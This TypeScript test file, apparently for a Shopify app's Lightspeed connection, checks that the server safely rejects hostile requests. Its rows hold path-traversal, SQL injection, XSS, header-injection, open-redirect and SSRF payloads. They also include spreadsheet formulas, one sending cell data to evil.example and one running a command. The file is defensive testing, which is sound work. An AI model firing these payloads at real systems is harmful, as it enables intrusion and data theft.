import { ask, openPage, post, raw } from "./send.ts";
import type { Row } from "./send.ts";

const nothing = "There is nothing here.\n";
const unreadable = "This request cannot be read.\n";
const nobody = "00000000-0000-4000-8000-000000000000";

const get = (path: string, headers = "") =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n${headers}\r\n`;

/** As a browser or `fetch` would never write them: they tidy up first. */
const traversals = [
  ["/../../etc/passwd", 404],
  ["/assets/../../package.json", 404],
  ["/assets/..%2f..%2fpackage.json", 404],
  ["/assets/%2e%2e/%2e%2e/package.json", 404],
  ["/assets/..%5c..%5cpackage.json", 404],
  ["/assets/....//....//package.json", 404],
  ["/assets/%252e%252e%252fpackage.json", 404],
  ["/assets//etc/passwd", 404],
  ["/assets/%00", 400],
  ["/.env", 404],
  ["/.git/config", 404],
  ["/%2e%65nv", 404],
  ["/build/server/index.js", 404],
  ["/app/web.ts", 302],
  ["//evil.example/%2f..", 404],
  ["///evil.example", 404],
  ["/\\evil.example", 404],
  ["/%", 404],
  ["/%zz", 404],
  ["/%c0%af", 404],
  ["/%ff", 404],
  ["/app/%", 302],
] as const;

const ids = [
  "x",
  "1",
  "-1",
  "0",
  "%00",
  "%0d%0aSet-Cookie:%20a=1",
  "..%2f..",
  "'%20OR%201=1--",
  "%3Cscript%3E",
  "a".repeat(3_000),
  "%F0%9F%90%B6",
  nobody,
];
const pagesWithId = [
  "/app/failures/",
  "/app/orders/",
  "/app/customers/",
  "/app/coupons/",
  "/app/exports/",
  "/app/reports/files/",
  "/app/stores/",
  "/app/pos/",
];

/** What a list's address may be made to say: none of it is more than a search that finds nothing. */
const lists = ["/app/failures", "/app/orders", "/app/customers", "/app/coupons", "/app/programs", "/app/programs/products", "/app/reports"];
export const texts: [what: string, text: string][] = [
  ["SQL", `'; DROP TABLE "Shop"; --`],
  ["SQL of a wildcard", `%' OR 1=1 --\\`],
  ["markup", `"><img src=x onerror=alert(1)>`],
  ["a script", `</script><script>alert(1)</script>`],
  ["a template", "{{constructor.constructor('return process')()}}${7*7}<%= 7*7 %>"],
  ["line breaks", "a\r\nSet-Cookie: x=1\r\n\r\n<html>"],
  ["a null byte", "a\0b"],
  ["half a letter", "a\ud800b"],
  ["a text that runs backwards", "a\u202egnp.exe\u2066"],
  ["a formula", `=HYPERLINK("http://evil.example?"&A1,"ok")`],
  ["a formula of a command", `@SUM(1+1)*cmd|' /C calc'!A0`],
  ["the name of a prototype", "__proto__"],
  ["a megabyte", "a".repeat(1024 * 1024)],
];
const inAddress = texts.filter(([what]) => what !== "a megabyte");

export const addressRows: Row[] = [
  ...traversals.map(([path, status]): Row => ({
    name: `the way ${path}`,
    send: (site) => raw(site, get(path)),
    status: [status, 400, 403],
  })),
  ...pagesWithId.flatMap((page) =>
    ids.map((id): Row => ({ name: `${page} of ${id.slice(0, 30)}`, send: (site) => openPage(site, `${page}${id}`), status: 404 })),
  ),
  ...lists.flatMap((list) =>
    inAddress.flatMap(([what, text]): Row[] => [
      {
        name: `${list} with ${what} as its search`,
        send: (site) => openPage(site, `${list}?${new URLSearchParams({ search: text })}`),
        status: 200,
      },
      {
        name: `${list} with ${what} as its cursor`,
        send: (site) =>
          ask(site, `${list}.data?${new URLSearchParams({ cursor: text })}`, {
            headers: { Authorization: `Bearer ${site.world.shop.sessionToken()}` },
          }),
        status: 200,
      },
    ]),
  ),
  ...inAddress.map(([what, text]): Row => ({
    name: `the language ${what}`,
    send: (site) => openPage(site, "/app/failures", { locale: text }),
    status: 200,
  })),
  ...inAddress.map(([what, text]): Row => ({
    name: `reopening at ${what}`,
    send: (site) => ask(site, `/auth/reopen?${new URLSearchParams({ to: `/app${text}` })}`),
    status: [200, 302],
  })),
  ...["https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)", "/app@evil.example", "/application"].map(
    (to): Row => ({
      name: `reopening at ${to}`,
      send: (site) => ask(site, `/auth/reopen?${new URLSearchParams({ to })}`),
      status: to.startsWith("/app@") ? [200, 302] : 302,
    }),
  ),
  ...["https://evil.example", "//evil.example", "javascript:alert(1)", "data:text/html,x", ""].map((exitIframe): Row => ({
    name: `out of the frame to ${exitIframe || "nowhere"}`,
    send: (site) => openPage(site, "/auth/exit-iframe", { exitIframe }),
    status: 400,
  })),
  ...["/app?_data=routes%2Fapp", "/app/failures?_data=root", "/app?_data[]=x", "/?_data=__proto__"].map((path): Row => ({
    name: `data in the old way: ${path}`,
    send: (site) => ask(site, path),
    status: 400,
    says: unreadable,
  })),
  ...["/app.data?_routes=__proto__", "/app/failures.data?_routes=" + "x,".repeat(500), "/app.data?_routes=%00", "/_root.data"].map(
    (path): Row => ({
      name: `data of ${path.slice(0, 50)}`,
      send: (site) => ask(site, path, { headers: { Authorization: `Bearer ${site.world.shop.sessionToken()}` } }),
      status: [200, 202, 302, 400, 404],
    }),
  ),
  ...["?p=%2Fapp&version=x", `?${"p=%2Fapp%2Fx&".repeat(300)}version=x`, "?p=__proto__", "?p=%00&version=", ""].map((query): Row => ({
    name: `the list of pages ${query.slice(0, 40)}`,
    send: (site) => ask(site, `/__manifest${query}`),
    status: [200, 204, 400],
  })),
  { name: "an address of 12,000 letters", send: (site) => ask(site, `/app?search=${"a".repeat(12_000)}`), status: 302 },
  { name: "an address of 40,000 letters", send: (site) => raw(site, get(`/app?${"a".repeat(40_000)}`)), status: 431 },
  { name: "a header of 40,000 letters", send: (site) => raw(site, get("/app", `X-A: ${"a".repeat(40_000)}\r\n`)), status: 431 },
  { name: "three thousand headers", send: (site) => raw(site, get("/app", "a:b\r\n".repeat(3_000))), status: [302, 431] },
  { name: "a header with a null byte", send: (site) => raw(site, get("/app", "X-A: a\0b\r\n")), status: 400 },
  { name: "a header that is folded", send: (site) => raw(site, get("/app", "X-A: a\r\n b\r\n")), status: [302, 400] },
  { name: "no host", send: (site) => raw(site, "GET /app HTTP/1.1\r\n\r\n"), status: 400 },
  {
    name: "two hosts",
    send: (site) => raw(site, "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n"),
    status: [200, 400],
  },
  ...["evil.example", "evil.example:99999", "a b", "<script>", "x@evil.example", "[::1", "é", ""].map((host): Row => ({
    name: `the host ${JSON.stringify(host)}`,
    send: (site) => raw(site, `GET /app HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n`),
    status: [302, 400],
  })),
  ...["evil.example", "evil.example, x", "a b/../", "<script>", ":0", "\u00e9"].map((host): Row => ({
    name: `the forwarded host ${JSON.stringify(host)}`,
    send: (site) => raw(site, get("/app", `X-Forwarded-Host: ${host}\r\nX-Forwarded-Proto: gopher\r\n`)),
    status: [302, 400],
  })),
  ...["TRACE", "CONNECT", "PROPFIND", "OPTIONS", "HACK", "get"].map((method): Row => ({
    name: `the method ${method}`,
    send: (site) => raw(site, `${method} /app HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n`),
    status: method === "CONNECT" ? [0, 400, 405] : [204, 302, 400, 404, 405, 501],
  })),
  ...["PUT", "PATCH", "DELETE"].map((method): Row => ({
    name: `a list by ${method}, without a token`,
    send: (site) => ask(site, "/app/failures", { method, body: "x" }),
    status: [302, 400, 405],
  })),
  ...["HEAD", "OPTIONS"].flatMap((method) =>
    [
      "/",
      "/app",
      "/auth/login",
      "/auth/reopen",
      "/connect/lightspeed",
      "/nowhere",
      "/api/orders/1",
      "/api/checkout/offers",
      "/proxy/offers",
    ].map((path): Row => ({
      name: `${path} by ${method}`,
      send: (site) => ask(site, path, { method }),
      status: [200, 204, 302, 400, 401, 404, 405],
    })),
  ),
  { name: "no HTTP", send: (site) => raw(site, "HELO x\r\n\r\n"), status: 400 },
  { name: "a TLS greeting", send: (site) => raw(site, Buffer.from("16030100a5010000a10303", "hex")), status: 400 },
  { name: "HTTP/2 at once", send: (site) => raw(site, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), status: [0, 400, 505] },
  { name: "HTTP/9", send: (site) => raw(site, "GET / HTTP/9.9\r\nHost: x\r\n\r\n"), status: [400, 505] },
  { name: "an upgrade", send: (site) => raw(site, get("/app", "Upgrade: websocket\r\nConnection: Upgrade\r\n")), status: [302, 400] },
  { name: "an expectation", send: (site) => raw(site, get("/app", "Expect: the impossible\r\n")), status: [302, 417] },
  { name: "a range beyond a file's end", send: (site) => ask(site, "/nowhere", { headers: { Range: "bytes=999999-1" } }), status: 404 },
  { name: "a file that is not there", send: (site) => ask(site, "/assets/none.js"), status: 404, says: nothing },
  { name: "an asset by POST", send: (site) => post(site, "/assets/none.js", "x", { token: null }), status: [404, 405] },
  { name: "a cookie of 8,000 letters", send: (site) => ask(site, "/app", { headers: { Cookie: `a=${"b".repeat(8_000)}` } }), status: 302 },
  {
    name: "a language of nobody",
    send: (site) => ask(site, "/auth/login", { headers: { "Accept-Language": "\u00ff".repeat(50) } }),
    status: 200,
  },
];

const states = ["x", "", "a".repeat(5_000), "' OR 1=1 --", "__proto__", "../", "%00"];
export const entranceRows: Row[] = [
  ...states.map((state): Row => ({
    name: `back from Lightspeed with the state ${state.slice(0, 20)}`,
    send: (site) => ask(site, `/connect/lightspeed?${new URLSearchParams({ code: "x", domain_prefix: "pawshop", state })}`),
    status: 400,
  })),
  ...["evil.example/", "a@evil.example", "../x", "169.254.169.254", "a\r\nb", "a".repeat(300)].map((domain_prefix): Row => ({
    name: `back from Lightspeed to the shop ${domain_prefix.slice(0, 30)}`,
    send: (site) => ask(site, `/connect/lightspeed?${new URLSearchParams({ code: "x", domain_prefix, state: "x" })}`),
    status: 400,
  })),
  ...["code", "state"].map((name): Row => ({
    name: `back from Lightspeed into the admin with somebody else's ${name}`,
    send: (site) => openPage(site, `/app/connections/lightspeed?code=stolen&state=stolen&domain_prefix=pawshop&${name}=twice`),
    status: [200, 302],
  })),
  ...texts.map(([what, shop]): Row => ({
    name: `logging in with ${what}`,
    send: (site) =>
      post(site, "/auth/login", new URLSearchParams({ shop }).toString(), { token: null, type: "application/x-www-form-urlencoded" }),
    status: what === "a megabyte" ? 413 : 200,
  })),
  ...["evil.example", "pawsome-pets.myshopify.com.evil.example", "evil.example/.myshopify.com", "a@b.myshopify.com", "//evil.example"].map(
    (shop): Row => ({
      name: `logging in at ${shop}`,
      send: (site) =>
        post(site, "/auth/login", new URLSearchParams({ shop }).toString(), { token: null, type: "application/x-www-form-urlencoded" }),
      status: 200,
      says: /not the address of a Shopify shop/,
    }),
  ),
  ...[
    ["with two thousand fields", `${"a=b&".repeat(2_000)}shop=x`],
    ["without a field", ""],
    ["with the field in its prototype", "__proto__[shop]=x"],
    ["with a field twice", "shop=evil.example&shop=x"],
    ["with a field that cannot be decoded", "shop=%E0%A4%A"],
  ].map(([what, body = ""]): Row => ({
    name: `logging in ${what}`,
    send: (site) => post(site, "/auth/login", body, { token: null, type: "application/x-www-form-urlencoded" }),
    status: 200,
  })),
  ...["application/json", "multipart/form-data; boundary=x", "text/xml", "application/x-www-form-urlencoded; charset=utf-7"].map(
    (type): Row => ({
      name: `logging in by ${type}`,
      send: (site) => post(site, "/auth/login", "shop=x y", { token: null, type }),
      status: 200,
    }),
  ),
  { name: "logging in at once at somebody's address", send: (site) => ask(site, "/auth/login?shop=evil.example"), status: 200 },
  ...["/auth/callback", "/auth/callback?code=x&hmac=x&shop=pawsome-pets.myshopify.com&state=x&timestamp=1", "/auth", "/auth/nowhere"].map(
    (path): Row => ({ name: `the old entrance ${path.slice(0, 40)}`, send: (site) => ask(site, path), status: [302, 400, 404] }),
  ),
];
